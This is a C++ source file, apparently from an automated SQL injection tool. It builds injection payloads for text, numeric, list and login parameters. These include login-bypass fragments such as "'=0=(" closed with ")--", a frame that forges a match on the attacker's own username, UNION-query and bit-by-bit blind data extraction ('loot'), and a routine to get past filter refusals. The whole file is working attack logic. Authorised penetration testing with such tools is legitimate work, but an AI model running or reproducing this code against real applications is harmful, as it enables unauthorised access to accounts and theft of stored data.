#include "core/attack/intrusion.h"

#include <algorithm>

#include "core/attack/loot.h"
#include "core/attack/session.h"
#include "core/attack/spelling.h"
#include "core/attack/union_query.h"
#include "core/base/ascii.h"

namespace parapet::attack {
namespace {

// A base is put before a quote, so it must not hold one, nor anything else that SQL might read.
bool is_plain(std::string const& text) {
    return !text.empty() && std::all_of(text.begin(), text.end(), [](char c) {
        return ascii::is_alphanumeric(c) || c == ' ' || c == '_' || c == '.' || c == '-' ||
               c == '@';
    });
}

bool names_account(Parameter const& parameter) {
    return ascii::lower(parameter.name).find("user") != std::string::npos;
}

bool try_frames(Entry& entry, Guess const& guess) {
    bool union_tried = guess.breaks.empty();
    for (Frame const& frame : guess.frames) {
        std::optional<Oracle> const oracle = Oracle::find(entry, frame);
        if (!oracle) continue;
        if (!union_tried) {
            union_tried = true;
            if (auto const query = UnionQuery::find(*oracle, guess.breaks)) {
                query->loot();
                return true;
            }
        }
        if (loot_by_bits(*oracle)) return true;
    }
    return false;
}

}  // namespace

Guess guess_text(Target& target, Parameter const& parameter) {
    std::vector<std::string> bases;
    auto const add = [&](std::string const& base) {
        if (is_plain(base) && std::find(bases.begin(), bases.end(), base) == bases.end())
            bases.push_back(base);
    };
    if (names_account(parameter)) add(target.surface().attacker.username);
    add(parameter.sample);
    std::string const nothing = random_word(target, 6);
    return {text_frames(bases, nothing), text_breaks(nothing)};
}

Guess guess_number(Parameter const& parameter) { return {number_frames(parameter.sample), {}}; }

Guess guess_list(Parameter const& parameter) {
    std::vector<std::string> const items = split(parameter.sample, ',');
    return {list_frames(items.empty() ? "1" : items.front()), list_breaks()};
}

Guess guess_login(Target& target, Endpoint const& login, std::size_t index) {
    Parameter const& parameter = login.parameters[index];
    std::string const nothing = random_word(target, 6);
    if (index == password_parameter(login)) {
        // Every try may cost the app a hash, so only the likely ones.
        std::vector<Frame> frames = {{nothing + "'=0=(", ")--"}, {nothing + "'=0=(", ")+'"}};
        frames.push_back(failing(nothing + "'||substr(7,1,0*", ")||'"));
        return {frames, {}};
    }
    Guess guess = guess_text(target, parameter);
    for (Break const& each : text_breaks(nothing)) {
        if (each.tail != "/*-") guess.frames.push_back(own_row(target, each, parameter.name));
    }
    return guess;
}

Frame own_row(Target& target, Break const& with, std::string_view username_column) {
    std::string const own = ")*(" + std::string(username_column) + "=" +
                            characters(target.surface().attacker.username) + ")";
    return {with.open + "=0=(", own + with.chained_tail.substr(1)};
}

bool intrude(Entry& entry, Guess const& guess) {
    if (guess.frames.empty()) return false;
    if (try_frames(entry, guess)) return true;
    return entry.get_past_refusal(guess.frames.front().around("9>3")) && try_frames(entry, guess);
}

bool intrude_by_bits(Entry& entry, Guess const& guess) {
    return intrude(entry, {guess.frames, {}});
}

}  // namespace parapet::attack
